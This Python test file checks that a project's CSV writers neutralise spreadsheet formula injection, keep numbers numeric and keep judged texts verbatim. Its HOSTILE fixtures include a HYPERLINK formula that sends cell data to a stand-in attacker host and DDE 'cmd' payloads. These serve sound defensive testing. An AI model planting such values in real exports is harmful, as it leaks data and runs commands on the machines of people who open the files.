"""Every CSV the project writes is safe to open in a spreadsheet (issue 27, section 4).

A name or a free text starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is
run as a formula by Excel, LibreOffice and Google Sheets. Each CSV writer is fed such values
where its files carry names and free text (system, evaluator, corpus, document, topic,
explanation, error type, key fact) and every cell read back by ``csv.reader`` must be inert:
neutralised with a leading ``'`` or a plain number. The texts under judgement that benchmark
layouts keep byte for byte (docs/formats/exports.md) are checked to be exactly those columns.
An architecture test keeps every CSV going through formats/writers/encoding.py.
"""

from __future__ import annotations

import ast
import csv
import io
import json
import re
from dataclasses import replace
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from annotations.evaluator_scores.tables import leaderboard_csv
from annotations.formats.circumstantial import read_circumstantial
from annotations.formats.release_records import read_release_records
from annotations.formats.tofueval import placeholder_documents, read_tofueval
from annotations.formats.writers.aggrefact import write_aggrefact
from annotations.formats.writers.circumstantial import RAW_COLUMNS, write_circumstantial
from annotations.formats.writers.encoding import (
    csv_fields,
    neutralised,
    restored,
    verbatim,
)
from annotations.formats.writers.records import write_records
from annotations.formats.writers.rows import KeyFactRow, SummaryRow, TopicRow, TurnRow
from annotations.formats.writers.scores import (
    ScoreCollector,
    write_scores,
    write_system_scores,
)
from annotations.formats.writers.tofueval import write_tofueval
from tests.formats.writers.builders import consistent_summary, inconsistent_summary

ROOT = Path(__file__).resolve().parents[3]
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"x")'
# One hostile value per trigger, so a writer that forgets one kind of start fails.
HOSTILE = {
    "equals": HYPERLINK,
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "carriage return": "\r=1+1",
    "space then equals": "  =1+1",
}


def is_inert(text: str) -> bool:
    """What a spreadsheet cannot run, written without the module under test: empty, not
    starting with a trigger after white space (a tab or carriage return is a trigger itself),
    or exactly a decimal number."""
    if not text:
        return True
    if text[0] in "\t\r":
        return False
    first = text.lstrip(" \t\r\n")[:1]
    if first == "" or first not in "=+-@":
        return True
    return re.fullmatch(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?", text) is not None


def table(data: bytes | str) -> list[dict[str, str]]:
    text = data.decode("utf-8") if isinstance(data, bytes) else data
    return list(csv.DictReader(io.StringIO(text, newline="")))


def assert_inert(rows: list[dict[str, str]], *, verbatim_columns: frozenset[str] = frozenset()):
    assert rows
    for number, row in enumerate(rows, start=2):
        for column, value in row.items():
            if column not in verbatim_columns:
                assert is_inert(value), f"line {number}, {column}: {value!r} runs as a formula"


# --- the rule itself -----------------------------------------------------------------------


@pytest.mark.parametrize("kind", HOSTILE)
def test_each_formula_start_is_neutralised_with_a_single_quote(kind: str) -> None:
    value = HOSTILE[kind]
    (read,) = csv.reader(io.StringIO(csv_fields([value]) + "\n", newline=""))
    assert read == ["'" + value]


@pytest.mark.parametrize("number", ["-0.5", "+3", "-1e-05", "0.25", "-.5", "12"])
def test_a_number_stays_a_number_whether_written_as_text_or_as_a_number(number: str) -> None:
    assert csv_fields([number, float(number), int(float(number))]) == ",".join(
        [number, repr(float(number)), str(int(float(number)))]
    )


def test_text_that_only_looks_numeric_at_the_start_is_neutralised() -> None:
    assert csv_fields(["-0.5+A1", "-inf", "- a bullet", "1-2"]) == "'-0.5+A1,'-inf,'- a bullet,1-2"


def test_a_negative_float_is_never_prefixed_even_in_exponent_form() -> None:
    assert csv_fields([-0.5, -1e-12, float("-inf")]) == "-0.5,-1e-12,-inf"


texts = st.text(alphabet=st.sampled_from(list("'=+-@ \t\r\n0.5eax\"")), max_size=8)


@given(texts)
def test_neutralising_is_undone_exactly_and_always_inert(text: str) -> None:
    written = neutralised(text)
    assert restored(written) == text
    assert is_inert(written)


@given(texts)
def test_a_verbatim_cell_reads_back_exactly_as_given(text: str) -> None:
    (row,) = csv.reader(io.StringIO(csv_fields([verbatim(text), "x"]) + "\n", newline=""))
    assert row == [text, "x"]


def test_a_verbatim_cell_is_written_raw_and_marks_only_what_needs_it() -> None:
    assert csv_fields([verbatim(HYPERLINK)]) == '"=HYPERLINK(""http://evil.example/?""&A1,""x"")"'
    # A text starting with a quote would get a second one from the rule: raw means raw.
    assert csv_fields([verbatim("'=1+1"), verbatim("'- a bullet")]) == "'=1+1,'- a bullet"
    plain = "The council votes."
    assert verbatim(plain) is plain


# --- the architecture: one CSV writer ------------------------------------------------------

WRITER_MODULE = ROOT / "annotations" / "formats" / "writers" / "encoding.py"


def csv_writing_calls(path: Path) -> list[str]:
    """``csv.writer``/``csv.DictWriter`` (however imported) and pandas' ``to_csv`` in a file."""
    tree = ast.parse(path.read_text(encoding="utf-8"), filename=str(path))
    found = []
    for node in ast.walk(tree):
        if isinstance(node, ast.ImportFrom) and node.module == "csv":
            found += [
                f"{path}:{node.lineno}: from csv import {a.name}"
                for a in node.names
                if a.name in {"writer", "DictWriter", "*"}
            ]
        elif isinstance(node, ast.Attribute) and (
            node.attr == "to_csv"
            or (
                node.attr in {"writer", "DictWriter"}
                and isinstance(node.value, ast.Name)
                and node.value.id == "csv"
            )
        ):
            found.append(f"{path}:{node.lineno}: .{node.attr}")
    return found


def test_no_module_but_the_writer_module_writes_csv() -> None:
    sources = [
        path
        for folder in ("annotations", "annotation_site", "bench")
        for path in (ROOT / folder).rglob("*.py")
        if path != WRITER_MODULE and "migrations" not in path.parts
    ]
    assert len(sources) > 100  # the walk found the code
    assert [call for path in sources for call in csv_writing_calls(path)] == []


def test_the_architecture_test_sees_a_csv_writer(tmp_path: Path) -> None:
    offender = tmp_path / "offender.py"
    offender.write_text(
        "import csv\nfrom csv import DictWriter\nw = csv.writer(f)\nframe.to_csv(p)\n"
    )
    assert len(csv_writing_calls(offender)) == 3
    assert csv_writing_calls(WRITER_MODULE)  # the one place that may


# --- every CSV a release writes ------------------------------------------------------------


def hostile_summaries() -> list[SummaryRow]:
    """The builders' two summaries of one unit with every name and free text hostile."""
    names = {
        "corpus": "demo",
        "doc_id": HOSTILE["minus"],
        "topic": HOSTILE["at"],
        "corpus_name": HOSTILE["plus"],
        "turns": (TurnRow("@MAYA", "Tonight the council votes."), TurnRow("DEV", "Yes.")),
    }
    consistent = consistent_summary(system=HYPERLINK, **names)
    bad = inconsistent_summary(
        system=HOSTILE["tab"], summary_id=HOSTILE["carriage return"], **names
    )
    first, second = bad.sentences
    first = replace(
        first,
        text="=1+1 is what the city pays.",
        explanations=(HOSTILE["equals"],),
        error_types=(HOSTILE["minus"],),
        spans=(),
    )
    return [consistent, replace(bad, sentences=(first, second), text="")]


def test_records_csv_neutralises_names_and_reads_back_with_the_names_it_was_built_from() -> None:
    stream = io.BytesIO()
    write_records(stream, hostile_summaries())
    rows = table(stream.getvalue())
    assert_inert(rows)
    assert rows[0]["system"] == "'" + HYPERLINK
    assert rows[0]["doc_id"] == "'" + HOSTILE["minus"]
    assert rows[0]["topic"] == "'" + HOSTILE["at"]
    assert rows[0]["sent_idx"] == "1"
    records = read_release_records(stream.getvalue())
    assert set(records.summaries.field("system").tolist()) == {HYPERLINK, HOSTILE["tab"]}
    assert set(records.summaries.field("doc_id").tolist()) == {HOSTILE["minus"]}


def test_scores_and_system_scores_neutralise_names_and_keep_scores_as_numbers() -> None:
    stream = io.BytesIO()
    collector = ScoreCollector()
    write_scores(stream, hostile_summaries(), collector=collector)
    rows = table(stream.getvalue())
    assert_inert(rows)
    assert [row["system"] for row in rows] == ["'" + HYPERLINK, "'" + HOSTILE["tab"]]
    assert rows[1]["summary_id"] == "'" + HOSTILE["carriage return"]
    assert float(rows[0]["faithfulness"]) == 1.0
    assert float(rows[1]["faithfulness"]) == 0.5
    systems = io.BytesIO()
    write_system_scores(systems, collector.table(n_resamples=20))
    system_rows = table(systems.getvalue())
    assert_inert(system_rows)
    assert {row["system"] for row in system_rows} == {"'" + HYPERLINK, "'" + HOSTILE["tab"]}
    assert all(float(row["faithfulness"]) >= 0 for row in system_rows)


def test_aggrefact_neutralises_names_and_keeps_the_judged_texts_verbatim() -> None:
    stream = io.BytesIO()
    write_aggrefact(stream, hostile_summaries(), dataset=HOSTILE["equals"])
    rows = table(stream.getvalue())
    assert_inert(rows, verbatim_columns=frozenset({"doc", "summary"}))
    assert rows[0]["dataset"] == "'" + HOSTILE["equals"]
    assert rows[0]["id"] == "'" + HOSTILE["minus"]
    assert rows[0]["model_name"] == "'" + HYPERLINK
    assert rows[0]["topic"] == "'" + HOSTILE["at"]
    assert rows[0]["doc"].startswith("@MAYA")  # the dialogue an evaluator reads, raw
    assert rows[1]["summary"].startswith("=1+1 is what")
    assert rows[1]["label"] == "0"


def test_circumstantial_neutralises_names_and_keeps_the_judged_texts_verbatim() -> None:
    stream = io.BytesIO()
    write_circumstantial(stream, hostile_summaries())
    rows = table(stream.getvalue())
    assert {"summary", "dialogue"} == RAW_COLUMNS
    assert_inert(rows, verbatim_columns=RAW_COLUMNS)
    assert rows[0]["model"] == "'" + HYPERLINK
    assert rows[1]["model"] == "'" + HOSTILE["tab"]
    assert rows[0]["docid"] == "'" + HOSTILE["minus"] + "::" + HOSTILE["at"]
    assert rows[0]["origin"] == "'" + HOSTILE["plus"]
    assert rows[0]["dialogue"].startswith("@MAYA: ")
    assert rows[1]["summary"].startswith("=1+1 is what")
    assert rows[1]["factual_error"] == "1"


def test_a_circumstantial_export_imports_back_with_the_names_it_was_built_from(
    tmp_path: Path,
) -> None:
    path = tmp_path / "circumstantial.csv"
    with path.open("wb") as stream:
        write_circumstantial(stream, hostile_summaries())
    # Lenient: the hostile summary is inconsistent without a span, which strict mode refuses.
    published = read_circumstantial(path, allowed_types=[], lenient=True)
    (document,) = published.documents
    assert document.external_id == HOSTILE["minus"]
    assert [topic.name for topic in document.topics] == [HOSTILE["at"]]
    systems = [summary.system for topic in document.topics for summary in topic.summaries]
    # The import trims white space at the ends of a name (the tab), as for any file.
    assert systems == [HYPERLINK, HOSTILE["tab"].strip()]
    assert set(published.corpus_names.values()) == {HOSTILE["plus"]}
    assert document.turns[0].speaker == "@MAYA"


def test_every_tofueval_csv_neutralises_names_and_keeps_only_the_sentence_verbatim(
    tmp_path: Path,
) -> None:
    summaries = [replace(row, corpus="mediasum") for row in hostile_summaries()]
    key_facts = (KeyFactRow(HOSTILE["equals"]), KeyFactRow("It costs $4M."))
    topic = TopicRow("mediasum", HOSTILE["minus"], HOSTILE["at"], "7", "main", key_facts)
    written = write_tofueval(tmp_path, summaries, [topic])
    csv_files = [file.path for file in written if file.path.endswith(".csv")]
    assert sorted(csv_files) == [
        "completeness/mediasum_completeness_coverage.csv",
        "completeness/mediasum_completeness_final.csv",
        "factual_consistency/mediasum_factual_eval_dev.csv",
    ]
    for path in csv_files:
        assert_inert(
            table((tmp_path / path).read_bytes()), verbatim_columns=frozenset({"summ_sent"})
        )
    factual = table((tmp_path / "factual_consistency/mediasum_factual_eval_dev.csv").read_bytes())
    assert [row["model_name"] for row in factual] == ["'" + HYPERLINK] * 2 + [
        "'" + HOSTILE["tab"]
    ] * 2
    assert factual[2]["exp"] == "'" + HOSTILE["equals"]
    assert factual[2]["type"] == "'" + HOSTILE["minus"]
    assert factual[2]["summ_sent"] == "=1+1 is what the city pays."
    assert factual[0]["topic"] == "'" + HOSTILE["at"]
    # The key facts are a Python list literal: the cell starts with "[" and their text is kept.
    final = table((tmp_path / "completeness/mediasum_completeness_final.csv").read_bytes())
    assert final[0]["key_points"].startswith("[")
    assert HOSTILE["equals"] in final[0]["key_points"]


def test_a_tofueval_export_imports_back_with_the_names_it_was_built_from(tmp_path: Path) -> None:
    summaries = [replace(row, corpus="mediasum", split="dev") for row in hostile_summaries()]
    topic = TopicRow("mediasum", HOSTILE["minus"], HOSTILE["at"], "7", "main", ())
    write_tofueval(tmp_path, summaries, [topic])
    documents = tmp_path / "documents.jsonl"
    documents.write_text(
        "".join(json.dumps(line) + "\n" for line in placeholder_documents(tmp_path))
    )
    release = read_tofueval(tmp_path, documents, allowed_types=[HOSTILE["minus"]])
    (unit,) = release.units
    assert (unit.document, unit.topic) == (HOSTILE["minus"], HOSTILE["at"])
    (document,) = release.documents
    systems = [s.system for t in document.topics for s in t.summaries]
    assert systems == [HYPERLINK, HOSTILE["tab"]]
    sentences = [s.sentences for t in document.topics for s in t.summaries][1]
    assert sentences[0].text == "=1+1 is what the city pays."


def test_the_leaderboard_csv_neutralises_evaluator_names_and_keeps_figures_numbers() -> None:
    def figure(value: float) -> dict[str, float]:
        return {"value": value, "low": value - 0.05, "high": value + 0.05}

    level = {
        "evaluators": {
            HYPERLINK: {"kind": "score", "threshold": -0.5, "balanced_accuracy": figure(0.8)},
            HOSTILE["minus"]: {
                "kind": "label",
                "threshold": None,
                "balanced_accuracy": figure(0.7),
            },
            "-0.5": {"kind": "score", "threshold": -1e-05, "balanced_accuracy": figure(0.6)},
        }
    }
    rows = table(leaderboard_csv(level))
    assert_inert(rows)
    assert [row["evaluator"] for row in rows] == ["'" + HYPERLINK, "'" + HOSTILE["minus"], "-0.5"]
    assert rows[0]["threshold"] == "-0.5"
    assert rows[2]["threshold"] == "-1e-05"
    assert float(rows[0]["balanced_accuracy_low"]) == pytest.approx(0.75)
